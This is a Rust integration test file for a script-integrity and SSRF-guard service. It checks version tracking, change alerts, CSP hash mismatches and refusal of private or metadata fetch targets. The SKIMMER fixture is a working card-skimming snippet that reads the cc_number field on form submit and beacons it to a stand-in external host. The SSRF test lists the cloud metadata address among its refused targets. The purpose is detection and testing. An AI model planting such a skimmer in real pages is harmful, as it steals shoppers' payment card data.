@@ -1,0 +1,345 @@
+//! The script fetcher against real loopback upstreams: versions, change alerts with behavioural
+//! diffs, browser-hash mismatches, size limits and the SSRF guard (hosts resolving or
+//! redirecting to loopback, private, link-local and metadata addresses).
+
+mod common;
+
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::{Arc, Mutex};
+
+use axum::extract::{Path, State};
+use axum::http::{StatusCode, header};
+use axum::response::{IntoResponse, Response};
+use common::*;
+use serde_json::Value;
+
+#[derive(Clone)]
+struct Upstream {
+    body: Arc<Mutex<String>>,
+    hits: Arc<AtomicUsize>,
+}
+
+async fn serve_upstream(ip: &str, body: &str) -> (Upstream, String) {
+    let up = Upstream {
+        body: Arc::new(Mutex::new(body.to_string())),
+        hits: Arc::default(),
+    };
+    let app = axum::Router::new()
+        .route(
+            "/lib.js",
+            axum::routing::get(|State(u): State<Upstream>| async move {
+                u.hits.fetch_add(1, Ordering::SeqCst);
+                (
+                    [(header::CONTENT_TYPE, "text/javascript")],
+                    u.body.lock().unwrap().clone(),
+                )
+                    .into_response()
+            }),
+        )
+        .route(
+            "/big.js",
+            axum::routing::get(|State(u): State<Upstream>| async move {
+                u.hits.fetch_add(1, Ordering::SeqCst);
+                "x".repeat(5000)
+            }),
+        )
+        .route(
+            "/redirect/{port}/lib.js",
+            axum::routing::get(
+                |State(u): State<Upstream>, Path(port): Path<u16>| async move {
+                    u.hits.fetch_add(1, Ordering::SeqCst);
+                    let mut r: Response = StatusCode::FOUND.into_response();
+                    let to = format!("http://127.0.0.1:{port}/lib.js");
+                    r.headers_mut()
+                        .insert(header::LOCATION, to.parse().unwrap());
+                    r
+                },
+            ),
+        )
+        .with_state(up.clone());
+    let listener = tokio::net::TcpListener::bind((ip, 0)).await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
+    (up, format!("http://{addr}"))
+}
+
+const LIB: &str = r#"/* tiny widget 1.0 */
+(function (window, document) {
+  var state = { opened: 0 };
+  function open(panel) { state.opened += 1; panel.classList.add("open"); }
+  window.widget = { open: open, version: "1.0.0" };
+})(window, document);
+"#;
+
+const LIB_REBUILT: &str = r#"(function(a,b){var c={opened:7};function d(e){c.opened+=1;e.classList.add("is-open")}a.widget={open:d,version:"1.0.1-build.8812"}})(window,document);"#;
+
+const SKIMMER: &str = r#"
+document.addEventListener("submit", function () {
+  var card = document.querySelector("input[name=cc_number]").value;
+  navigator.sendBeacon("https://widget-cdn-analytics.example.net/c", card);
+});
+"#;
+
+async fn versions(t: &TestServer, url: &str, n: usize) -> Value {
+    let path = format!("/api/v1/sites/shop/scripts/versions?url={}", urlencode(url));
+    t.eventually(&path, |v| v["versions"].as_array().unwrap().len() >= n)
+        .await
+}
+
+async fn fetches(t: &TestServer, url: &str) -> Vec<Value> {
+    let path = format!("/api/v1/sites/shop/scripts/versions?url={}", urlencode(url));
+    t.eventually(&path, |v| !v["fetches"].as_array().unwrap().is_empty())
+        .await["fetches"]
+        .as_array()
+        .unwrap()
+        .clone()
+}
+
+fn urlencode(s: &str) -> String {
+    s.bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
+                (b as char).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
+        .collect()
+}
+
+async fn report(t: &TestServer, url: &str) {
+    let r = t
+        .post(
+            "application/csp-report",
+            script_report("https://shop.example/checkout", url),
+        )
+        .await;
+    assert_eq!(r.status(), 204);
+}
+
+#[tokio::test]
+async fn versions_trivial_rebuilds_and_an_appended_skimmer() {
+    let (up, base) = serve_upstream("127.0.0.1", LIB).await;
+    let t = start(
+        "",
+        "[fetcher]\nallow_private_addresses = true\ninterval = \"300ms\"",
+    )
+    .await;
+    let url = format!("{base}/lib.js");
+    report(&t, &url).await;
+    versions(&t, &url, 1).await;
+    let scripts = t
+        .eventually("/api/v1/sites/shop/scripts", |v| {
+            v["scripts"][0]["versions"] == 1
+        })
+        .await;
+    assert_eq!(scripts["scripts"][0]["sha256"].as_str().unwrap().len(), 64);
+    assert_eq!(
+        scripts["scripts"][0]["structural_hash"]
+            .as_str()
+            .unwrap()
+            .len(),
+        32
+    );
+
+    // A rebuild: renamed locals, new literals, no comments. Stored, never alerted.
+    *up.body.lock().unwrap() = LIB_REBUILT.to_string();
+    let v = versions(&t, &url, 2).await;
+    assert_eq!(
+        v["versions"][0]["structural_hash"],
+        v["versions"][1]["structural_hash"]
+    );
+    assert!(
+        t.api("/api/v1/alerts?kind=script_changed").await["alerts"]
+            .as_array()
+            .unwrap()
+            .is_empty()
+    );
+
+    // Twenty-odd lines appended that read the card field and beacon it out.
+    *up.body.lock().unwrap() = format!("{LIB_REBUILT}\n{SKIMMER}");
+    versions(&t, &url, 3).await;
+    let alerts = t
+        .eventually("/api/v1/alerts?kind=script_changed", |v| {
+            !v["alerts"].as_array().unwrap().is_empty()
+        })
+        .await;
+    let a = &alerts["alerts"][0];
+    assert_eq!(a["severity"], "critical");
+    assert_eq!(a["subject"], url.as_str());
+    let d = &a["details"];
+    assert_eq!(d["added_domains"], serde_json::json!(["example.net"]));
+    let caps: Vec<&str> = d["added_capabilities"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| c.as_str().unwrap())
+        .collect();
+    for want in [
+        "network:beacon",
+        "read:form-fields",
+        "listen:submit-or-click",
+    ] {
+        assert!(caps.contains(&want), "{want} not in {caps:?}");
+    }
+    assert!(d["similarity"].as_f64().unwrap() > 0.3);
+    assert!(
+        d["added_regions"][0]["code"]
+            .as_str()
+            .unwrap()
+            .contains("sendBeacon")
+    );
+
+    let diff = t
+        .api(&format!(
+            "/api/v1/sites/shop/scripts/diff?url={}",
+            urlencode(&url)
+        ))
+        .await;
+    assert_eq!(diff["verdict"], "changed");
+    assert!(
+        diff["added_regions"][0]["code"]
+            .as_str()
+            .unwrap()
+            .contains("document.addEventListener")
+    );
+    t.server.shutdown().await.unwrap();
+}
+
+#[tokio::test]
+async fn a_browser_hash_that_matches_no_fetched_version_alerts() {
+    let (_up, base) = serve_upstream("127.0.0.1", LIB).await;
+    let t = start(
+        "",
+        "[fetcher]\nallow_private_addresses = true\ninterval = \"1h\"",
+    )
+    .await;
+    let url = format!("{base}/lib.js");
+    // What visitors ran (per Chromium's csp-hash report) is not what the server gives us.
+    let body = format!(
+        r#"[{{"type":"csp-hash","url":"https://shop.example/","body":{{"documentURL":"https://shop.example/","subresourceURL":"{url}","hash":"sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=","type":"subresource","destination":"script"}}}}]"#
+    );
+    assert_eq!(t.post("application/reports+json", body).await.status(), 204);
+    let v = t
+        .eventually("/api/v1/alerts?kind=script_hash_mismatch", |v| {
+            !v["alerts"].as_array().unwrap().is_empty()
+        })
+        .await;
+    assert_eq!(v["alerts"][0]["severity"], "critical");
+    assert_eq!(
+        v["alerts"][0]["details"]["reported_by_browsers"],
+        "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="
+    );
+    t.server.shutdown().await.unwrap();
+}
+
+#[tokio::test]
+async fn a_matching_browser_hash_is_quiet() {
+    use base64::Engine;
+    use sha2::Digest;
+    let (_up, base) = serve_upstream("127.0.0.1", LIB).await;
+    let t = start(
+        "",
+        "[fetcher]\nallow_private_addresses = true\ninterval = \"1h\"",
+    )
+    .await;
+    let url = format!("{base}/lib.js");
+    let hash = format!(
+        "sha256-{}",
+        base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(LIB))
+    );
+    let body = format!(
+        r#"[{{"type":"csp-hash","url":"https://shop.example/","body":{{"documentURL":"https://shop.example/","subresourceURL":"{url}","hash":"{hash}","type":"subresource","destination":"script"}}}}]"#
+    );
+    assert_eq!(t.post("application/reports+json", body).await.status(), 204);
+    versions(&t, &url, 1).await;
+    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
+    assert!(
+        t.api("/api/v1/alerts?kind=script_hash_mismatch").await["alerts"]
+            .as_array()
+            .unwrap()
+            .is_empty()
+    );
+    t.server.shutdown().await.unwrap();
+}
+
+#[tokio::test]
+async fn private_loopback_link_local_and_metadata_targets_are_refused_and_recorded() {
+    let (up, base) = serve_upstream("127.0.0.1", LIB).await;
+    let port = base.rsplit(':').next().unwrap().to_string();
+    let t = start("", "[fetcher]\ninterval = \"1h\"").await;
+    let targets = [
+        (format!("http://localhost:{port}/lib.js"), "loopback"),
+        (format!("http://127.0.0.1:{port}/lib.js"), "loopback"),
+        (format!("http://[::1]:{port}/lib.js"), "loopback"),
+        ("http://10.11.12.13/lib.js".to_string(), "private"),
+        (
+            "http://169.254.169.254/latest/meta-data/x.js".to_string(),
+            "metadata",
+        ),
+        ("http://[fd00:ec2::254]/x.js".to_string(), "unique local"),
+    ];
+    for (url, _) in &targets {
+        report(&t, url).await;
+    }
+    for (url, why) in &targets {
+        let f = fetches(&t, url).await;
+        assert_eq!(f[0]["outcome"], "refused", "{url}: {f:?}");
+        assert!(
+            f[0]["error"].as_str().unwrap().contains(why),
+            "{url}: {f:?}"
+        );
+    }
+    assert_eq!(
+        up.hits.load(Ordering::SeqCst),
+        0,
+        "no request may reach a refused address"
+    );
+    t.server.shutdown().await.unwrap();
+}
+
+#[tokio::test]
+async fn a_redirect_to_a_private_address_is_refused_at_the_hop() {
+    // 127.0.0.2 stands in for a public CDN (explicitly allowed); it redirects to 127.0.0.1.
+    let (target, target_base) = serve_upstream("127.0.0.1", LIB).await;
+    let (cdn, cdn_base) = serve_upstream("127.0.0.2", LIB).await;
+    let t = start(
+        "",
+        "[fetcher]\nallow_addresses = [\"127.0.0.2/32\"]\ninterval = \"1h\"",
+    )
+    .await;
+    let direct = format!("{cdn_base}/lib.js");
+    let target_port = target_base.rsplit(':').next().unwrap();
+    let bounced = format!("{cdn_base}/redirect/{target_port}/lib.js");
+    report(&t, &direct).await;
+    report(&t, &bounced).await;
+    assert_eq!(fetches(&t, &direct).await[0]["outcome"], "new_version");
+    let f = fetches(&t, &bounced).await;
+    assert_eq!(f[0]["outcome"], "refused", "{f:?}");
+    assert!(
+        f[0]["error"].as_str().unwrap().contains("redirect"),
+        "{f:?}"
+    );
+    assert!(cdn.hits.load(Ordering::SeqCst) >= 2);
+    assert_eq!(target.hits.load(Ordering::SeqCst), 0);
+    t.server.shutdown().await.unwrap();
+}
+
+#[tokio::test]
+async fn bodies_over_the_limit_are_errors() {
+    let (_up, base) = serve_upstream("127.0.0.1", LIB).await;
+    let t = start(
+        "",
+        "[fetcher]\nallow_private_addresses = true\nmax_script_bytes = 1000\ninterval = \"1h\"",
+    )
+    .await;
+    let url = format!("{base}/big.js");
+    report(&t, &url).await;
+    let f = fetches(&t, &url).await;
+    assert_eq!(f[0]["outcome"], "error");
+    assert!(
+        f[0]["error"].as_str().unwrap().contains("max_script_bytes"),
+        "{f:?}"
+    );
+    t.server.shutdown().await.unwrap();
+}
